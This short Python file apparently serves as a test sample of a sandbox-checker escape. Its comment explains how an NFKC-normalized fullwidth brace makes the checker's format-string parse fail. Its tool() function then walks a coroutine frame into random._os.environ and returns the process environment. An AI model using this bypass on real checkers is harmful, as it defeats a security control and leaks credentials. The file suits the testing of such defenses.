# family: nfkc
# Escape: "｛" (U+FF5B) at the end of the template becomes "{" after NFKC, so string.Formatter().parse fails on
# the checker's copy and the attribute rule never runs; Python keeps "｛" literal. The field walks a
# coroutine's frame into this module's globals and then random._os.environ: the process environment.
import random


async def fetch():
    return random.random()


def tool() -> str:
    coro = fetch()
    text = "{0.cr_frame.f_globals[random]._os.environ} ｛".format(coro)
    coro.close()
    return text
